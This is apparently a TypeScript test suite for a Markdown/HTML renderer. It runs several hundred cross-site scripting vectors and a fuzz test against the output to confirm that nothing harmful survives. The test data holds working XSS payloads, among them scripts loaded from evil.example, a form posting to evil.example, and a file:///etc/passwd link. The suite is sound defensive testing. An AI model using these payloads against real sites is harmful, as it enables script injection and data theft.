import assert from 'node:assert/strict'
import { test } from 'node:test'
import { fc, scale } from '../../support/random.ts'
import { XSS_VECTORS } from '../../website/xss-vectors.ts'
import { assertHarmless } from './harmless.ts'
import { renderedText } from './rendered.ts'

const NUL = '\0'

/** Known attacks on pages, each as an author would write it, in addition to the attacks that a browser opens. */
const VECTORS: Readonly<Record<string, readonly string[]>> = {
  'in a browser': XSS_VECTORS,
  scripts: [
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<script>alert(1)',
    'a <script>b</script> c',
    '- <script>alert(1)</script>',
    '> <script>\n> alert(1)\n> </script>',
    '<svg><script href="data:text/javascript,alert(1)" /></svg>',
    '<math><mtext><script>alert(1)</script></mtext></math>',
    '<noscript><script>alert(1)</script></noscript>',
    `<scr${NUL}ipt>alert(1)</scr${NUL}ipt>`,
    '| <script>alert(1)</script> |\n| - |',
  ],
  handlers: [
    '<p onmouseover=alert(1)>a</p>',
    '<video src=/a onloadstart=alert(1)></video>',
    '<svg/onload=alert(1)//',
    '<table background="javascript:alert(1)" onclick=alert(1)><tr><td onclick=alert(1)>a</td></tr></table>',
    '<h2 id=x onclick=alert(1)>a</h2>',
    '<div onpointerenter=alert(1) tabindex=1 autofocus contenteditable>a</div>',
    '<a title="a\nb" onfocus=alert(1) autofocus href=/x>a</a>',
    '<custom-element onclick=alert(1) is=x>a</custom-element>',
  ],
  addresses: [
    '[a](javascript&#58;alert(1))',
    '[a]( javascript:alert(1) "t")',
    `[a](java${NUL}script:alert(1))`,
    '[a](file:///etc/passwd)',
    '[a](jar:javascript:alert(1)!)',
    '<data:text/html,x>',
    '<a href=" &#14;  javascript:alert(1)">a</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)">a</a>',
    "<a href='javascript:alert(1)' href='/x'>a</a>",
    '<a href="javas\u0000cript:alert(1)">a</a>',
    '<a xlink:href="javascript:alert(1)">a</a>',
    '<a href="/x" ping="https://evil.example" target=_blank download>a</a>',
    '<blockquote cite="javascript:alert(1)">a</blockquote>',
    '<q cite="data:text/html,x">a</q>',
    '[^a]\n\n[^a]: [b](javascript:alert(1))',
    '[![a](javascript:alert(1))](javascript:alert(2))',
  ],
  'what a page would load': [
    '![a](https://evil.example/x.png)',
    '![a](//evil.example/x.png)',
    '![a](/\\evil.example/x.png)',
    '![a](\\\\\\\\evil.example/x.png)',
    '![a](<ht\ttps://evil.example/x.png>)',
    '![a](https:evil.example)',
    '![a](data:image/svg+xml,<svg onload=alert(1)>)',
    '![a](javascript:alert(1))',
    '![a][b]\n\n[b]: https://evil.example/x "t"',
    '[![a](https://evil.example/x)](https://evil.example/y)',
    '<img src="https://evil.example/x">',
    '<img srcset="https://evil.example/x 2x" src=/a sizes=100vw>',
    '<img src="/a" lowsrc="https://evil.example" dynsrc="https://evil.example" longdesc="javascript:alert(1)">',
    '<image src="https://evil.example/x">',
    '<picture><source srcset="https://evil.example/x"><img src="https://evil.example/y"></picture>',
    '<video src="https://evil.example/x" poster="https://evil.example/y" autoplay></video>',
    '<video poster="https://evil.example/y"><source src="https://evil.example/x"><source src="/x"></video>',
    '<video src=/a><track src="https://evil.example/x" default></video>',
    '<audio src="data:audio/wav,x" autoplay></audio>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example/x"><param name=x></object>',
    '<embed src="https://evil.example/x">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<link rel=import href="https://evil.example">',
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<portal src="https://evil.example"></portal>',
    '<frameset><frame src="https://evil.example"></frameset>',
    '<applet code=x archive="https://evil.example">a</applet>',
    '<table background="https://evil.example/x"><tr><td background="https://evil.example/y">a</td></tr></table>',
    '<svg><image href="https://evil.example/x"/><use href="https://evil.example/#x"/></svg>',
    '<bgsound src="https://evil.example/x">',
  ],
  'style and forms': [
    '<style>@import "https://evil.example";</style>',
    '<style><img src="</style><img src=x onerror=alert(1)//">',
    '<p style="background:url(https://evil.example)">a</p>',
    '<p style="position:fixed;inset:0">a</p>',
    '<div class="anchor table nav">a</div>',
    '<form action="https://evil.example"><input name=a><button formaction="javascript:alert(1)">b</button></form>',
    '<input type=image src="https://evil.example/x">',
    '<isindex action="https://evil.example">',
    '<select onchange=alert(1)><option>a</select>',
    '<label for=x accesskey=x>a</label>',
    '<dialog open>a</dialog><div popover id=x>a</div>',
  ],
  'names that stand for something else': [
    '<a id=location name=cookie>a</a>',
    '<img name=getElementById src=/a>',
    '<form id=document name=body><input name=attributes></form>',
    '<h2 id=__proto__>constructor</h2>',
    '# __proto__\n\n# constructor\n\n# hasOwnProperty\n\n# toString',
    '[^__proto__] [^constructor]\n\n[^__proto__]: a\n\n[^constructor]: b',
    '[__proto__] [constructor]\n\n[__proto__]: javascript:alert(1)',
    '<a name="user-content-x" id=fn-1>a</a>',
  ],
  'HTML that turns into other HTML': [
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!-- --!><img src=x onerror=alert(1)> -->',
    '<![CDATA[><img src=x onerror=alert(1)>]]>',
    '<?x ><img src=x onerror=alert(1)>?>',
    '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;',
    '<table><a href="x"><tr><td><a href="y">b</a></td></tr></a></table>',
    '<select><template><img src=x onerror=alert(1)></template></select>',
    '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
    '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
    '<math href="javascript:alert(1)">a</math>',
    '<div><p><div><p></div></p></div></main></body></html><img src=x onerror=alert(1)>',
    '<b><p><a href=x><b><p></a><img src=x onerror=alert(1)>',
    '`<img src=x onerror=alert(1)>` ``<script>``',
    '```"><script>alert(1)</script>\na\n```',
    '```js onclick=alert(1) class=x\na\n```',
    '![" onerror="alert(1)](/a "\\" onerror=\\"alert(1)")',
    '[a](/b "\\"><script>alert(1)</script>")',
    '# <img src=x onerror=alert(1)> "><script>alert(1)</script>',
    '<p title="<img src=x onerror=alert(1)>">a</p>',
    '<figure><img src=/a title="<script>alert(1)</script>"></figure>',
    '![a](/a "<script>alert(1)</script>")',
  ],
}

test('the tests cover more than 450 known attacks', () => {
  assert.ok(Object.values(VECTORS).flat().length > 450)
})

for (const [kind, vectors] of Object.entries(VECTORS)) {
  test(`no known attack succeeds: ${kind}`, () => {
    for (const vector of vectors) {
      for (const text of [vector, `a ${vector}`, `# ${vector}`, `<div>\n${vector}`, `| ${vector} |\n| - |\n`]) {
        assertHarmless(renderedText(text), text)
      }
    }
  })
}

test('for any page, a browser finds only content on the safe list', () => {
  const names =
    'div p a b table tr td svg math style script title template select img form h2 li mglyph mtext noscript xmp ' +
    'textarea desc video source caption figure details pre input iframe foreignObject plaintext'
  const tags = fc.constantFrom(...names.split(' '))
  const attributes =
    '¦ href="javascript:x"¦ src=//e.example¦ onclick=x¦ id=x¦ style=x¦ title="</p><script>"¦' +
    ' title=\'--><img src=x onerror=x>\'¦ name=x class=x¦ href="/a"¦ src="/a"¦ align=center'
  const marks =
    '\n¦\n\n¦ ¦- ¦> ¦# ¦**¦`¦```\n¦[a](¦)¦![¦]¦[^1]¦\n[^1]: ¦| a |\n¦| - |\n¦<!--¦-->¦<![CDATA[¦]]>¦&lt;¦' +
    'javascript:¦https://e.example¦"¦<¦- [ ] '
  const start = fc
    .tuple(tags, fc.constantFrom(...attributes.split('¦')))
    .map(([tag, attribute]) => `<${tag}${attribute}>`)
  const piece = fc.oneof(
    start,
    tags.map(tag => `</${tag}>`),
    fc.constantFrom(...marks.split('¦')),
    fc.string({ maxLength: 4 }),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 25 }), pieces => {
      const text = pieces.join('')
      assertHarmless(renderedText(text), text)
    }),
    { numRuns: scale(500) },
  )
})
